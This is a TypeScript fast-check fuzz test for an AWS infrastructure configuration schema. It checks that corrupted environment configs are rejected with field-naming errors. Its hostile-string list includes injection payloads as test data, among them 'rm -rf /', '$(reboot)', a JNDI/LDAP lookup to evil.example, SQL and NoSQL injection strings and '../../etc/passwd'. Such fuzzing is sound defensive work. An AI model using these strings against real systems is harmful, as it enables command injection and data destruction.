/**
 * Property-based tests of the environment schema: at least 1,000 generated
 * environments per run, valid and corrupted ones, with hostile strings in
 * names, tags, CIDRs and image tags and overlapping subnets. A valid
 * environment must synthesize; an invalid one must be rejected with a
 * ConfigError whose problems name a field; nothing may throw anything else.
 *
 * The seed is random per run and printed by fast-check on failure; rerun a
 * failure with CE_FUZZ_SEED=<seed> npm test.
 */
import fc from "fast-check";
import { Testing } from "cdktf";
import { ConfigError, derive, EnvironmentInput, fargateMemoryOptions, parseEnvironment } from "../../modules/config";
import { CloudExchangeStack } from "../../modules/stacks/cloud-exchange-stack";

const REGIONS = ["us-east-1", "us-west-2", "eu-west-1", "eu-central-1", "ap-southeast-2", "ca-central-1"];
const hex = (n: number) => fc.stringMatching(new RegExp(`^[0-9a-f]{${n}}$`));
const account = fc.stringMatching(/^\d{12}$/);

/** Strings an attacker or a careless paste would put in a field. */
const hostileString = fc.oneof(
  fc.string({ maxLength: 40 }),
  fc.string({ unit: "grapheme", maxLength: 30 }),
  fc.string({ unit: "binary", maxLength: 30 }),
  fc.constantFrom(
    '"; rm -rf / #',
    "$(reboot)",
    "`id`",
    "${jndi:ldap://evil.example/a}",
    "%{for x in y}",
    '{"$ne": null}',
    "\u0000\u0007\u001b[31m",
    "../../etc/passwd",
    "ℵ∞☃𝒳🙂",
    "\u202Egnp.exe",
    "' OR 1=1 --",
    "\n\r\t",
    "10.0.0.0/8; curl evil",
    "999.1.1.1/33",
    "latest",
    "a".repeat(5000),
  ),
);
const hostileValue = fc.oneof(
  { weight: 6, arbitrary: hostileString },
  { weight: 1, arbitrary: fc.integer() },
  { weight: 1, arbitrary: fc.double() },
  { weight: 1, arbitrary: fc.boolean() },
  { weight: 1, arbitrary: fc.constant(null) },
  { weight: 1, arbitrary: fc.array(hostileString, { maxLength: 3 }) },
  { weight: 1, arbitrary: fc.object({ maxDepth: 1 }) },
);

const cidr16 = fc.tuple(fc.integer({ min: 1, max: 223 }), fc.nat(255)).map(([a, b]) => `${a}.${b}.0.0/16`);
const taskSize = fc
  .constantFrom(1024, 2048, 4096, 8192, 16384)
  .chain((cpu) => fc.constantFrom(...fargateMemoryOptions(cpu).filter((m) => m >= 4096)).map((memory) => ({ cpu, memory })));

/** Environments built to be valid. */
const validEnvironment: fc.Arbitrary<EnvironmentInput> = fc
  .record({
    name: fc.stringMatching(/^[a-z](?:[a-z0-9]{1,4}-?){0,3}[a-z0-9]$/),
    accountId: account,
    region: fc.constantFrom(...REGIONS),
    zones: fc.shuffledSubarray(["a", "b", "c", "d"], { minLength: 2, maxLength: 3 }),
    ha: fc.boolean(),
    release: fc.constantFrom("6.1", "6.0", "5.0"),
    preset: fc.constantFrom("extra-small", "small", "medium", "large"),
    override: fc.option(taskSize, { nil: undefined }),
    renewBeforeDays: fc.integer({ min: 7, max: 180 }),
    pullThroughCache: fc.boolean(),
    network: fc.oneof(
      fc.record({ mode: fc.constant("new"), vpcCidr: fc.option(cidr16, { nil: undefined }) }),
      fc.record({ mode: fc.constant("existing"), vpcId: hex(17).map((h) => `vpc-${h}`), vpcCidr: cidr16, subnet: hex(17) }),
    ),
    ingress: fc.constantFrom("alb", "alb-certificate", "existing-target-group", "none"),
    allowedCidrs: fc.option(fc.array(cidr16, { minLength: 1, maxLength: 4 }), { nil: undefined }),
    existingSecrets: fc.boolean(),
    tlsVersion: fc.constantFrom("TLSv1.3", "TLSv1.2 TLSv1.3"),
    tags: fc.dictionary(fc.stringMatching(/^[A-Za-z][A-Za-z0-9 _.:/=+@-]{0,20}$/), fc.stringMatching(/^[A-Za-z0-9 _.:/=+@-]{0,30}$/), { maxKeys: 5 }),
    coreTag: fc.stringMatching(/^[A-Za-z0-9_][A-Za-z0-9_.-]{0,30}$/),
    proxy: fc.boolean(),
    emails: fc.array(fc.constantFrom("oncall@example.com", "secops@example.org"), { maxLength: 2 }),
    allowDestroy: fc.boolean(),
  })
  .map((r) => {
    const zones = r.zones.map((z) => `${r.region}${z}`);
    const arn = (service: string, resource: string) => `arn:aws:${service}:${r.region}:${r.accountId}:${resource}`;
    // CE 6 runs only its Medium and Large profiles (8 or 16 vCPU); CE 5.0 any preset and Fargate size.
    const ce6 = r.release !== "5.0";
    const preset = ce6 && (r.preset === "extra-small" || r.preset === "small") ? "medium" : r.preset;
    const override = ce6 && r.override && r.override.cpu < 8192 ? undefined : r.override;
    const env: Record<string, unknown> = {
      name: r.name,
      accountId: r.accountId,
      region: r.region,
      availabilityZones: zones,
      release: r.release,
      variant: r.ha && zones.length === 3 ? "ha" : "standalone",
      size: { preset, ...(override ?? {}) },
      internalTls: { renewBeforeDays: r.renewBeforeDays },
      state: { bucket: `state-${r.accountId}`, region: r.region },
      tlsVersion: r.tlsVersion,
      tags: r.tags,
      images: {
        core: { tag: r.coreTag },
        ...(r.pullThroughCache ? { pullThroughCache: { credentialsSecretArn: arn("secretsmanager", "secret:ecr-pullthroughcache/docker-hub-AbCdEf") } } : {}),
      },
      alarms: { emails: r.emails },
      protection: { allowDestroy: r.allowDestroy },
    };
    if (r.network.mode === "new") env.network = r.network.vpcCidr ? { mode: "new", vpcCidr: r.network.vpcCidr } : { mode: "new" };
    else {
      const n = r.network as { vpcId: string; vpcCidr: string; subnet: string };
      env.network = { mode: "existing", vpcId: n.vpcId, vpcCidr: n.vpcCidr, privateSubnetIds: zones.map((_, i) => `subnet-${n.subnet.slice(0, 16)}${i}`) };
    }
    if (r.ingress === "alb" || r.ingress === "alb-certificate") {
      env.ingress = {
        mode: "alb",
        ...(r.ingress === "alb-certificate" ? { certificateArn: arn("acm", "certificate/11111111-2222-3333-4444-555555555555") } : {}),
        ...(r.allowedCidrs ? { allowedCidrs: r.allowedCidrs } : {}),
      };
    } else if (r.ingress === "existing-target-group") {
      env.ingress = { mode: "existing-target-group", targetGroupArn: arn("elasticloadbalancing", "targetgroup/ui/0123456789abcdef"), sourceCidrs: r.allowedCidrs ?? ["10.0.0.0/16"] };
    } else env.ingress = { mode: "none" };
    if (r.existingSecrets) {
      env.secrets = {
        mode: "existing",
        jwtSecretArn: arn("secretsmanager", "secret:ce/jwt-AbCdEf"),
        maintenanceSecretArn: arn("secretsmanager", "secret:ce/maintenance-AbCdEf"),
        clusterSecretArn: arn("secretsmanager", "secret:ce/cluster-AbCdEf"),
      };
    }
    if (r.proxy) env.proxy = { httpUrl: "http://proxy.corp.example:3128", httpsUrl: "http://proxy.corp.example:3128" };
    return env as EnvironmentInput;
  });

/** A path and how to corrupt the value there. */
type Corruption = (env: Record<string, any>) => void;

const corruption: fc.Arbitrary<Corruption> = fc.oneof(
  hostileValue.map((v): Corruption => (e) => (e.name = v)),
  hostileValue.map((v): Corruption => (e) => (e.accountId = v)),
  hostileValue.map((v): Corruption => (e) => (e.region = v)),
  hostileValue.map((v): Corruption => (e) => (e.availabilityZones = [e.availabilityZones[0], v])),
  hostileValue.map((v): Corruption => (e) => (e.variant = v)),
  hostileValue.map((v): Corruption => (e) => (e.size = { preset: v })),
  hostileValue.map((v): Corruption => (e) => (e.release = v)),
  fc.constant<Corruption>((e) => ((e.release = "6.1"), (e.size = { preset: "extra-small" }))),
  hostileValue.map((v): Corruption => (e) => (e.internalTls = { rotation: v })),
  hostileValue.map((v): Corruption => (e) => (e.images = { pullThroughCache: { credentialsSecretArn: v } })),
  fc.tuple(fc.integer({ min: 0, max: 40000 }), fc.integer({ min: 0, max: 130000 })).map(([cpu, memory]): Corruption => (e) => (e.size = { cpu, memory })),
  hostileValue.map((v): Corruption => (e) => (e.network = { mode: "new", vpcCidr: v })),
  hostileValue.map((v): Corruption => (e) => (e.network = { mode: "new", privateSubnetCidrs: [v, "172.16.2.0/24"] })),
  fc.constant<Corruption>((e) => {
    const zones = e.availabilityZones.length;
    e.network = { mode: "new", vpcCidr: "172.16.0.0/16", privateSubnetCidrs: Array.from({ length: zones }, () => "172.16.1.0/24"), publicSubnetCidrs: Array.from({ length: zones }, (_, i) => `172.16.${i + 10}.0/24`) };
  }),
  fc.constant<Corruption>((e) => (e.network = { mode: "new", vpcCidr: "10.0.0.0/16", privateSubnetCidrs: e.availabilityZones.map(() => "10.0.0.0/20"), publicSubnetCidrs: e.availabilityZones.map((_: unknown, i: number) => `10.0.${i * 16 + 8}.0/24`) })),
  hostileValue.map((v): Corruption => (e) => (e.images = { core: { tag: v } })),
  hostileValue.map((v): Corruption => (e) => (e.images = { ui: { repository: v } })),
  fc.tuple(hostileString, hostileValue).map(([k, v]): Corruption => (e) => (e.tags = { ...(e.tags ?? {}), [k]: v })),
  hostileValue.map((v): Corruption => (e) => (e.tags = { Owner: v })),
  hostileValue.map((v): Corruption => (e) => (e.ingress = { mode: "alb", allowedCidrs: [v] })),
  hostileValue.map((v): Corruption => (e) => (e.ingress = { mode: v })),
  hostileValue.map((v): Corruption => (e) => (e.ingress = { mode: "alb", certificateArn: v })),
  hostileValue.map((v): Corruption => (e) => (e.secrets = { mode: "existing", jwtSecretArn: v, maintenanceSecretArn: v, clusterSecretArn: v })),
  hostileValue.map((v): Corruption => (e) => (e.proxy = { httpUrl: v })),
  hostileValue.map((v): Corruption => (e) => (e.tlsVersion = v)),
  hostileValue.map((v): Corruption => (e) => (e.state = { bucket: v, region: "eu-west-1" })),
  hostileValue.map((v): Corruption => (e) => (e.logs = { retentionDays: v })),
  hostileValue.map((v): Corruption => (e) => (e.application = { extraEnvironment: { [String(v).slice(0, 20) || "X"]: "1", DB_PASSWORD: v } })),
  fc.tuple(hostileString, hostileValue).map(([k, v]): Corruption => (e) => (e[k || "unknown"] = v)),
  fc.constant<Corruption>((e) => (e.variant = "ha")),
  fc.constant<Corruption>((e) => delete e.state),
  hostileValue.map((v): Corruption => (e) => (e.defender = { enabled: true, deploymentMode: "organization", run: { mode: "scheduled", scheduleExpression: v } })),
);

const invalidEnvironment = fc.tuple(validEnvironment, fc.array(corruption, { minLength: 1, maxLength: 3 })).map(([env, corruptions]) => {
  const copy = JSON.parse(JSON.stringify(env)) as Record<string, any>;
  for (const corrupt of corruptions) corrupt(copy);
  return copy as EnvironmentInput;
});

describe("environment fuzzing", () => {
  const seed = Number(process.env.CE_FUZZ_SEED ?? Math.floor(Math.random() * 2 ** 31));

  it("accepts and synthesizes valid environments, rejects invalid ones with a config error, and never crashes", () => {
    const counts = { valid: 0, invalid: 0 };
    fc.assert(
      fc.property(fc.oneof(validEnvironment, invalidEnvironment), (input) => {
        let env;
        try {
          env = parseEnvironment(input, "fuzz");
        } catch (error) {
          if (!(error instanceof ConfigError)) throw error;
          expect(error.problems.length).toBeGreaterThan(0);
          for (const problem of error.problems) {
            expect(problem.path).not.toBe("");
            expect(problem.message.length).toBeGreaterThan(5);
            expect(problem.message.length).toBeLessThan(600);
            expect(problem.message).not.toMatch(/[\u0000-\u0008\u000b-\u001f]/);
          }
          counts.invalid++;
          return;
        }
        const stack = new CloudExchangeStack(Testing.app(), derive(env).stackName, { environment: env });
        const json = JSON.parse(Testing.synth(stack));
        expect(Object.keys(json.resource).length).toBeGreaterThan(5);
        counts.valid++;
      }),
      { seed, numRuns: 1000 },
    );
    expect(counts.valid + counts.invalid).toBe(1000);
    expect(counts.valid).toBeGreaterThan(150);
    expect(counts.invalid).toBeGreaterThan(150);
  }, 300_000);
});
